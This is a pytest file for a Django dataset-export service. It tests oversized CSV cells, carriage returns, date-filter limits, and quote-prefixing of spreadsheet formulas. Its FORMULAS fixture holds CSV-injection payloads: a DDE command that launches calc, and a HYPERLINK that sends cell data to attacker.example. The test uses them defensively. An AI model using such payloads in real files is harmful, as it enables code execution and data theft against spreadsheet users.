"""Exports that hold for any storable item: huge cells, formula-like text, bare carriage returns,
and dataset date filters at the edges of the calendar."""

import csv
import json
import tempfile
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st

from core.csvcells import spreadsheet_safe
from demo.datasets import DEMO_DATASETS
from exports.models import Dataset, ExportRun
from exports.records import ExportRecord
from exports.tables import CsvWriter, csv_reader
from exports.writing import dataset_version_verify
from feedback.models import FeedbackItem
from feedback.services import api_token_create
from labeling.models import Category
from tests.factories.exports import dataset_make, export, item_make, label_make, source_get
from tests.factories import client_for, post_signed, rating_event, source_make, user_make

pytestmark = pytest.mark.django_db

# What every fresh Python process starts with.
DEFAULT_FIELD_LIMIT = 131_072
# What the README tells csv.reader users to set: larger than any cell an export can write.
CONSUMER_FIELD_LIMIT = 2**31 - 1


@pytest.fixture(autouse=True)
def default_csv_field_limit():
    """Each test starts from Python's default csv field limit, as a fresh worker does."""
    before = csv.field_size_limit(DEFAULT_FIELD_LIMIT)
    yield
    csv.field_size_limit(before)


def csv_rows(path) -> list[dict]:
    """items.csv read as a consumer with csv.reader does (the field limit raised as the README says)."""
    csv.field_size_limit(CONSUMER_FIELD_LIMIT)
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def pandas_rows(path) -> list[dict]:
    return pd.read_csv(path, dtype=str, keep_default_na=False).to_dict("records")


def sft_train_dataset() -> Dataset:
    """The demo's train set: rated answers in every training format, CSV and parquet."""
    return dataset_make(**next(spec for spec in DEMO_DATASETS if spec["name"] == "coder-sft-train"))


# --- Cells larger than the csv module's default field limit ---------------------------


def long_text(words: str, length: int) -> str:
    return (words * (length // len(words) + 1))[:length]


def test_a_thumbs_up_with_two_70k_character_messages_exports_in_every_format(export_root):
    source, secret = source_make("coder-backend")
    question = long_text("Please refactor the parser module and keep the tests green. ", 70_000)
    answer = long_text("I split the tokenizer out of the parser and updated the call sites. ", 70_000)
    big = rating_event(
        rating="up",
        context={
            "messages": [{"role": "user", "content": question}, {"role": "assistant", "content": answer}],
            "output": "Done.",
        },
    )
    small = rating_event(rating="up", comment="Short and right.")
    response = post_signed(Client(), source, secret, {"events": [big, small]})
    assert response.status_code == 202, response.content
    assert FeedbackItem.objects.count() == 2

    version = export(sft_train_dataset())
    folder = export_root / "coder-sft-train" / "v1"

    assert version.item_count == 2
    # The demo's train set has every training format; these are the ones a thumbs-up fills.
    rows = {entry["name"]: entry["rows"] for entry in version.files if entry["rows"] is not None}
    assert {name: rows[name] for name in ("chat.jsonl", "kto.jsonl", "items.csv", "items.parquet")} == {
        "chat.jsonl": 2,
        "kto.jsonl": 2,
        "items.csv": 2,
        "items.parquet": 2,
    }
    expected_messages = [{"content": question, "role": "user"}, {"content": answer, "role": "assistant"}]
    by_csv = csv_rows(folder / "items.csv")
    by_pandas = pandas_rows(folder / "items.csv")
    assert [row["external_id"] for row in by_csv] == [big["id"], small["id"]]
    assert [row["external_id"] for row in by_pandas] == [big["id"], small["id"]]
    assert json.loads(by_csv[0]["messages"]) == expected_messages
    assert json.loads(by_pandas[0]["messages"]) == expected_messages
    assert by_pandas[1]["comment"] == "Short and right."
    assert pq.read_table(folder / "items.parquet").num_rows == 2


def test_a_version_with_huge_cells_rewrites_byte_identically(export_root):
    item_make(rating=1, request=long_text("Explain the failing migration step by step. ", 150_000))
    version = export(sft_train_dataset())

    csv.field_size_limit(DEFAULT_FIELD_LIMIT)
    check = dataset_version_verify(version=version)
    assert check.identical and check.differing == []


def test_without_a_raised_limit_csv_reader_refuses_the_huge_cell(export_root):
    # Why the README tells csv.reader users to raise csv.field_size_limit (pandas needs nothing).
    item_make(rating=1, request=long_text("Explain the failing migration step by step. ", 150_000))
    export(sft_train_dataset())

    csv.field_size_limit(DEFAULT_FIELD_LIMIT)
    with open(export_root / "coder-sft-train" / "v1" / "items.csv", encoding="utf-8", newline="") as handle:
        with pytest.raises(csv.Error, match="field larger than field limit"):
            list(csv.reader(handle))
    assert len(pandas_rows(export_root / "coder-sft-train" / "v1" / "items.csv")) == 1


# --- Spreadsheet formulas and carriage returns -------------------------------------------


FORMULAS = {
    "external_id": "=cmd|' /C calc'!A0",
    "comment": '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "title": "+SUM(1,2)",
    "model_version": "-2+3",
    "variant": "@SUM(A1)",
    "surface": "\tide",
}


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(export_root):
    category = Category.objects.create(name="=Category(1)", status=Category.Status.CONFIRMED)
    item = item_make(output="-rm -rf build", **FORMULAS)
    label_make(item, hint="@import the helper first", corrected_response="\rrewritten", category=category)
    plain = item_make(comment="It edited the wrong file.")
    export(dataset_make("formulas", formats=("csv", "parquet", "hints_jsonl")))
    folder = export_root / "formulas" / "v1"

    for rows in (csv_rows(folder / "items.csv"), pandas_rows(folder / "items.csv")):
        assert len(rows) == 2
        risky, safe = rows
        for name, value in FORMULAS.items():
            assert risky[name] == "'" + value, name
        assert risky["output"] == "'-rm -rf build"
        assert risky["hint"] == "'@import the helper first"
        assert risky["corrected_response"] == "'\rrewritten"
        assert risky["category"] == "'=Category(1)"
        # Numbers and JSON text are not formulas and stay as they are.
        assert risky["rating"] == "-1" and risky["id"] == str(item.id)
        assert json.loads(risky["messages"]) == [{"content": "Rename foo to bar in utils.py", "role": "user"}]
        assert safe["comment"] == "It edited the wrong file." and safe["id"] == str(plain.id)

    # The other formats are not spreadsheets: they keep the text as it was sent.
    parquet = pq.read_table(folder / "items.parquet").to_pylist()
    assert parquet[0]["comment"] == FORMULAS["comment"] and parquet[0]["surface"] == "\tide"
    hints = [json.loads(line) for line in (folder / "hints.jsonl").read_text(encoding="utf-8").splitlines()]
    assert hints[0]["hint"] == "@import the helper first"


def test_a_bare_carriage_return_is_quoted_and_reads_back_as_one_row(export_root):
    tricky = "first line\rsecond line\r\rthird\r\nfourth\nfifth\r"
    items = [
        item_make(comment="before"),
        item_make(comment=tricky, output="answer\rwith a return"),
        item_make(comment="after"),
    ]
    export(dataset_make("returns", formats=("csv",)))
    path = export_root / "returns" / "v1" / "items.csv"

    for rows in (csv_rows(path), pandas_rows(path)):
        assert [row["id"] for row in rows] == [str(item.id) for item in items]
        assert [row["comment"] for row in rows] == ["before", tricky, "after"]
        assert rows[1]["output"] == "answer\rwith a return"
    with open(path, encoding="utf-8", newline="") as handle:
        assert sum(1 for _ in csv.reader(handle)) == 1 + len(items)


def record_with(text: str, index: int) -> ExportRecord:
    return ExportRecord(
        id=index, external_id=f"evt_{index}", source="product", kind="rating", rating=-1, title="", comment=text,
        expected="", item_severity="", model_name="coder", model_version="2.1", variant="A", surface="ide",
        occurred_at=datetime(2026, 11, 20, tzinfo=UTC), messages=[{"role": "user", "content": text}],
        structured=True, output=text, tool_calls=None, category_id=None, category=None, reviewed=False,
        verdict=None, severity="",
    )


# Text built from what breaks CSV (separators, quotes, both line ends, formula starts), and any
# other character a column can store (no NUL, no lone surrogates).
awkward_text = st.text(
    alphabet=st.sampled_from(list(',"\r\n\t=+-@\' ab€')) | st.characters(codec="utf-8", exclude_characters="\x00"),
    max_size=40,
)


@settings(max_examples=150, deadline=None)
@given(texts=st.lists(awkward_text, min_size=1, max_size=5))
def test_any_text_reads_back_as_one_row_per_item_with_csv_reader_and_pandas(texts):
    with tempfile.TemporaryDirectory() as folder:
        writer = CsvWriter(Path(folder))
        writer.write([record_with(text, index) for index, text in enumerate(texts, 1)])
        writer.close()
        with open(writer.path, encoding="utf-8", newline="") as handle:
            rows = list(csv.DictReader(handle))
        frame = pd.read_csv(writer.path, dtype=str, keep_default_na=False)
        with open(writer.path, encoding="utf-8", newline="") as handle:
            assert sum(1 for _ in csv_reader(handle)) == 1 + len(texts)

    expected = [spreadsheet_safe(text) for text in texts]
    assert [row["comment"] for row in rows] == expected
    assert [row["output"] for row in rows] == expected
    assert [json.loads(row["messages"])[0]["content"] for row in rows] == texts
    assert frame["comment"].tolist() == expected and frame["id"].tolist() == [str(i) for i in range(1, len(texts) + 1)]


def test_rows_without_a_carriage_return_keep_their_bytes(export_root):
    item_make(comment="It edited main.py, not utils.py.")
    export(dataset_make("plain", formats=("csv",)))
    line = (export_root / "plain" / "v1" / "items.csv").read_text(encoding="utf-8").splitlines()[1]

    # Minimal quoting as before: a version written by an earlier release still verifies.
    assert line.startswith(f"{FeedbackItem.objects.get().id},evt_") and ',"It edited main.py, not utils.py.",' in line


# --- Date filters at the edges of the calendar -----------------------------------------------


@pytest.fixture
def api():
    _, raw = api_token_create(source=source_get("product"), scopes=["datasets"])
    return Client(headers={"Authorization": f"Bearer {raw}"})


def post_dataset(api, filters: dict):
    spec = {"name": "dated", "purpose": "train", "formats": ["csv"], "filters": filters}
    return api.post("/api/v1/datasets", data=json.dumps(spec), content_type="application/json")


@pytest.mark.parametrize(
    "filters, field",
    [
        ({"date_to": "9999-12-31"}, "filters.date_to"),
        ({"date_to": "3000-01-01"}, "filters.date_to"),
        ({"date_from": "0001-01-01"}, "filters.date_from"),
        ({"date_from": "1969-12-31", "date_to": "2026-01-01"}, "filters.date_from"),
    ],
)
def test_the_api_refuses_a_filter_day_outside_the_supported_range(api, filters, field):
    response = post_dataset(api, filters)

    assert response.status_code == 422
    body = response.json()
    assert body["field"] == field
    assert body["error"] == f"{field}: must be a day from 1970-01-01 to 2999-12-31"
    assert not Dataset.objects.exists()


def test_the_api_refuses_an_out_of_range_day_in_a_change_and_keeps_the_definition(api):
    dataset = dataset_make("dated", filters={"date_to": "2026-12-31"})
    response = api.patch(
        f"/api/v1/datasets/{dataset.id}",
        data=json.dumps({"filters": {"date_to": "9999-12-31"}}),
        content_type="application/json",
    )

    assert response.status_code == 422 and response.json()["field"] == "filters.date_to"
    dataset.refresh_from_db()
    assert dataset.filters == {"date_to": "2026-12-31"}


def test_the_first_and_last_supported_days_are_accepted_and_export(api, export_root):
    inside = item_make(occurred_at=datetime(2026, 11, 20, tzinfo=UTC))
    response = post_dataset(api, {"date_from": "1970-01-01", "date_to": "2999-12-31"})

    assert response.status_code == 201, response.content
    version = export(Dataset.objects.get(name="dated"))
    assert list(version.members.values_list("item_id", flat=True)) == [inside.id]


@pytest.mark.parametrize("field, value", [("date_to", "9999-12-31"), ("date_from", "0001-01-01")])
def test_the_dataset_form_shows_an_error_for_an_out_of_range_day_and_saves_nothing(field, value):
    reviewer = client_for(user_make("rita", "reviewer"))
    form = {"name": "dated", "purpose": "train", "description": "", "formats": ["csv"], "rating": "", field: value}
    response = reviewer.post("/datasets/new", form)

    assert response.status_code == 422
    html = response.content.decode()
    assert "Nothing was saved." in html and "Enter a day from 1970-01-01 to 2999-12-31." in html
    assert not Dataset.objects.exists()


@pytest.mark.parametrize(
    "stored, expected",
    [
        # Both mean "no bound on that side": every item is at or after year 1 and before year 10000.
        ({"date_to": "9999-12-31"}, {"old", "recent", "future"}),
        ({"date_from": "0001-01-01"}, {"old", "recent", "future"}),
        ({"date_from": "0001-01-01", "date_to": "9999-12-31"}, {"old", "recent", "future"}),
        # Bounds outside the range the edge accepts still mean what they say.
        ({"date_from": "9500-01-01", "date_to": "9999-12-31"}, {"future"}),
        ({"date_to": "1960-12-31"}, {"old"}),
    ],
)
def test_a_dataset_stored_with_a_day_outside_the_range_still_exports_exactly(export_root, stored, expected):
    items = {
        "old": item_make(occurred_at=datetime(1960, 6, 1, tzinfo=UTC)),
        "recent": item_make(occurred_at=datetime(2026, 11, 20, tzinfo=UTC)),
        "future": item_make(occurred_at=datetime(9999, 12, 31, 23, 59, tzinfo=UTC)),
    }
    dataset = dataset_make("stored-range", formats=("csv", "parquet"))
    # Stored by an earlier release that did not check the range.
    Dataset.objects.filter(id=dataset.id).update(filters=stored)
    dataset.refresh_from_db()

    version = export(dataset)

    assert ExportRun.objects.get().status == ExportRun.Status.DONE
    names = {item.id: name for name, item in items.items()}
    assert {names[item_id] for item_id in version.members.values_list("item_id", flat=True)} == expected
    assert version.filters == stored
    rows = pandas_rows(export_root / "stored-range" / "v1" / "items.csv")
    assert len(rows) == len(expected)


def test_a_dataset_stored_with_an_out_of_range_day_opens_and_can_be_fixed_in_the_form(export_root):
    dataset = dataset_make("stored-range", formats=("csv",))
    Dataset.objects.filter(id=dataset.id).update(filters={"date_to": "9999-12-31"})
    reviewer = client_for(user_make("rita", "reviewer"))

    assert reviewer.get(f"/datasets/{dataset.id}/").status_code == 200
    assert reviewer.get(f"/datasets/{dataset.id}/edit").status_code == 200
    form = {"name": "stored-range", "purpose": "train", "description": "", "formats": ["csv"], "rating": ""}
    refused = reviewer.post(f"/datasets/{dataset.id}/edit", {**form, "date_to": "9999-12-31"})
    assert refused.status_code == 422 and "Enter a day from 1970-01-01 to 2999-12-31." in refused.content.decode()
    fixed = reviewer.post(f"/datasets/{dataset.id}/edit", {**form, "date_to": "2026-12-31"})
    assert fixed.status_code == 302
    dataset.refresh_from_db()
    assert dataset.filters == {"date_to": "2026-12-31"}
